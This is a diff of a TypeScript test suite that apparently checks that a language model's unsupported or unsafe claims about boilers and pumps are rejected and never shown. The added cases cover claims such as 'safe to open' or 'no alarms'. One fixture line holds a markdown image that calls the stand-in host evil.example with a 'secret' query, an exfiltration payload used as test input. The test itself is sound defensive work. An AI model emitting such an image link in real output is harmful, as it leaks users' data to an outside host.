@@ -89,10 +89,20 @@ test.each([
   ['an image', '![x](//evil.example/?secret) of Boiler 1 [E1]', 'unclean'],
   ['markup', 'Boiler 1 <b>burns</b>. [E1]', 'unclean'],
   ['nothing', '', 'empty'],
-  ['nothing that is proven', 'All is well. Have a nice day!', 'empty'],
-  ['what names nothing of it', 'All pumps are safe to open. [E1]', 'empty'],
+  ['nothing that is proven', 'Boilers are hot. Have a nice day!', 'empty'],
+  ['what names nothing of it', 'All pumps may be opened. [E1]', 'empty'],
+  ['that something is safe', 'Boiler 1 is safe to open. [E1]', 'unfounded'],
+  [
+    'that all is normal beside a true figure',
+    'The upper limit of Boiler 1 is 8 bar: normal. [E1]',
+    'unfounded',
+  ],
+  ['that there are no alarms', 'Boiler 1 has no alarms. [E1]', 'unfounded'],
+  ['that something rises', 'The pressure of Boiler 1 is rising. [E1]', 'unfounded'],
+  ['that who is online is not', 'Boiler 1 is offline. [E1]', 'unfounded'],
   ['what is no unknown', 'All pumps are safe to open. [?]', 'empty'],
-  ['evidence that there is none of', 'All is well. [E9]', 'empty'],
+  ['as unknown that there are no alarms', 'There are no alarms. [?]', 'empty'],
+  ['evidence that there is none of', 'All is hot. [E9]', 'empty'],
 ] as const)('QA13 a model that says %s is not shown, the rules answer', async (_, said, reason) => {
   server.reply = plan([['present_value', pressure]], said)
   const { answer, lines, text } = await ask(question)
@@ -101,7 +111,7 @@ test.each([
   expect(answer.model?.trace?.failure).toBe(reason)
   expect(lines.filter(({ kind }) => kind === 'sentence')).toEqual([])
   const shown = JSON.stringify([answer.sentences, answer.unknown, lines])
-  expect(shown).not.toMatch(/\b42\b|forty|evil|<b>|safe/)
+  expect(shown).not.toMatch(/\b42\b|forty|evil|<b>|safe|opened|hot|no alarm|normal|rising|offline/)
 })
 
 test.each([
